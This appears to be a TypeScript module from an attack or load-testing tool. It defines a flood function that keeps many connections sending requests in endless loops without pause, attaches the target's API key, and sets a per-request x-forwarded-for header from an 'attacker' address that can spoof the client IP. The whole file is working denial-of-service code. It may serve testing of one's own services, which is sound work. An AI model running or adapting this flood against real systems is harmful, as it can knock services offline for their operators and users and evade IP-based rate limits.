// Attacks with complete requests whose responses are read.
import { Agent } from 'node:http'
import { setTimeout as delay } from 'node:timers/promises'
import { sendRequest } from './send-request.ts'
import { attackerAddress, type Target } from './target.ts'

interface AttackRequest {
  path: string
  method?: 'GET' | 'POST'
  contentType?: string
  body?: string
  address?: string
}

/**
 * Sends requests on a number of connections without a pause.
 * @param makeRequest is called with the number of the request
 */
export function flood(
  target: Target,
  connections: number,
  makeRequest: (number: number) => AttackRequest,
): void {
  const agent = new Agent({ keepAlive: true, maxSockets: connections })
  let sent = 0
  const keepSending = async () => {
    for (;;) {
      const { path, method = 'GET', contentType, body, address = attackerAddress } = makeRequest(sent++)
      const headers = {
        apikey: target.publishableKey,
        'x-forwarded-for': address,
        ...(contentType && { 'content-type': contentType }),
      }
      try {
        target.note(await sendRequest(target.url + path, { agent, method, headers, body, timeoutMs: 60_000 }))
      } catch (error) {
        target.note((error as NodeJS.ErrnoException).code ?? 'no answer')
        await delay(100)
      }
    }
  }
  for (let i = 0; i < connections; i++) keepSending()
}
